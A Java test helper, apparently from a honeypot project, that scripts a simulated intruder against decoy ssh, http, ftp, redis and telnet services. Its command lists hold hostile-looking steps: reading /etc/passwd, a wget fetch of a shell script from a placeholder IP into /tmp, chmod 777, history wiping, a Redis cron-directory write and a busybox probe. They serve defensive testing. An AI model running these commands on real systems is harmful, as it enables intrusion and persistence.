package decnet.images;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;

/** A visit with ordinary clients, as a stranger would pay it. Says what it typed, so that a test can look for it. */
final class Attack {
    static final List<String> CLIENTS = List.of("ssh", "expect", "curl", "lftp", "redis-cli", "telnet");
    static final List<String> SSH_WRONG = List.of("letmein-7f3a", "hunter2-9b1c");
    static final List<String> SSH_COMMANDS = List.of(
            "id",
            "uname -a",
            "cat /etc/passwd",
            "ps aux",
            "cat /proc/cpuinfo | grep model",
            "ls -la /root",
            "cd /tmp",
            "wget http://198.51.100.23/bins/x86.sh -O /tmp/.x",
            "chmod 777 /tmp/.x",
            "history -c");
    static final String DOWNLOAD = "http://198.51.100.23/bins/x86.sh";
    static final String FORM_SECRET = "form-secret-51c7";
    static final String UPLOAD = "spine-upload.bin";
    static final String UPLOADED = "#!/bin/sh\necho owned\n";
    static final List<String> REDIS_COMMANDS =
            List.of("config set dir /var/spool/cron", "set spine_key spine_value", "info server");
    static final String REDIS_SECRET = "redis-secret-0d44";
    static final String TELNET_WRONG = "telnet-wrong-77";
    static final List<String> TELNET_COMMANDS = List.of("cat /proc/mounts", "/bin/busybox SPINE");

    private final Installation installation;

    Attack(Installation installation) {
        this.installation = installation;
    }

    /** Skips the test, saying why, where a client is missing; in CI that is a failure. */
    static void assumeClients() {
        List<String> missing = Stream.concat(CLIENTS.stream(), Stream.of("psql"))
                .filter(client -> !Processes.installed(client))
                .toList();
        if (!missing.isEmpty()) {
            System.err.println("SKIPPED: install " + String.join(", ", missing) + " to run this test (.ci/run does)");
        }
        if (System.getenv("CI") == null) {
            Assumptions.assumeTrue(missing.isEmpty(), "not installed: " + missing);
        } else if (!missing.isEmpty()) {
            throw new AssertionError("not installed: " + missing);
        }
    }

    Installation.Login ssh() throws IOException {
        Installation.Service ssh = installation.service("ssh");
        Installation.Login login = installation.logins(ssh.decky()).getFirst();
        StringBuilder script = new StringBuilder("set timeout 60\n");
        script.append("spawn ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null")
                .append(" -o PubkeyAuthentication=no -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3")
                .append(" -p ")
                .append(ssh.port())
                .append(' ')
                .append(login.user())
                .append('@')
                .append(ssh.address())
                .append('\n');
        SSH_WRONG.forEach(secret -> answer(script, "assword:", secret));
        answer(script, "assword:", login.password());
        SSH_COMMANDS.forEach(command -> answer(script, "-re {[#$] $}", command));
        answer(script, "-re {[#$] $}", "exit");
        expect(script);
        return login;
    }

    void http() {
        Installation.Service http = installation.service("http");
        String url = "http://" + http.address() + ":" + http.port();
        Outcome page = installation.client("", "curl", "-sSL", "-o", "/dev/null", "-w", "%{url_effective}", url + "/");
        page.succeeded();
        installation
                .client(
                        "",
                        "curl",
                        "-sS",
                        "--data-urlencode",
                        "username=spine",
                        "--data-urlencode",
                        "password=" + FORM_SECRET,
                        page.out().strip())
                .succeeded();
    }

    void ftp() throws IOException {
        Installation.Service ftp = installation.service("ftp");
        Installation.Login login = installation.logins(ftp.decky()).stream()
                .filter(account -> !account.user().equals("root"))
                .findFirst()
                .orElseThrow();
        Path file = Files.writeString(installation.folder().resolve(UPLOAD), UPLOADED);
        installation
                .client(
                        "",
                        "lftp",
                        "-u",
                        login.user() + "," + login.password(),
                        "-e",
                        "set ftp:ssl-allow no; set net:max-retries 1; set net:timeout 20; put " + file + "; bye",
                        "ftp://" + ftp.address() + ":" + ftp.port())
                .succeeded();
    }

    void redis() {
        Installation.Service redis = installation.service("redis");
        String commands = "auth " + REDIS_SECRET + "\n" + String.join("\n", REDIS_COMMANDS) + "\n";
        installation
                .client(commands, "redis-cli", "-h", redis.address(), "-p", Integer.toString(redis.port()))
                .succeeded();
    }

    Installation.Login telnet() throws IOException {
        Installation.Service telnet = installation.service("telnet");
        Installation.Login login = installation.logins(telnet.decky()).getFirst();
        StringBuilder script = new StringBuilder("set timeout 60\nspawn telnet ")
                .append(telnet.address())
                .append(' ')
                .append(telnet.port())
                .append('\n');
        answer(script, "ogin:", login.user());
        answer(script, "assword:", TELNET_WRONG);
        answer(script, "ogin:", login.user());
        answer(script, "assword:", login.password());
        TELNET_COMMANDS.forEach(command -> answer(script, "-re {[#$] $}", command));
        answer(script, "-re {[#$] $}", "exit");
        expect(script);
        return login;
    }

    private static void answer(StringBuilder script, String prompt, String text) {
        script.append("expect {\n  ")
                .append(prompt)
                .append(" { send -- {")
                .append(text)
                .append("}; send \"\\r\" }\n  timeout { puts \"no prompt\"; exit 3 }\n")
                .append("  eof { puts \"closed\"; exit 4 }\n}\n");
    }

    private void expect(StringBuilder script) throws IOException {
        script.append("expect eof\n");
        Path file = Files.writeString(installation.folder().resolve("script.exp"), script);
        installation.client("", "expect", file.toString()).succeeded();
    }
}
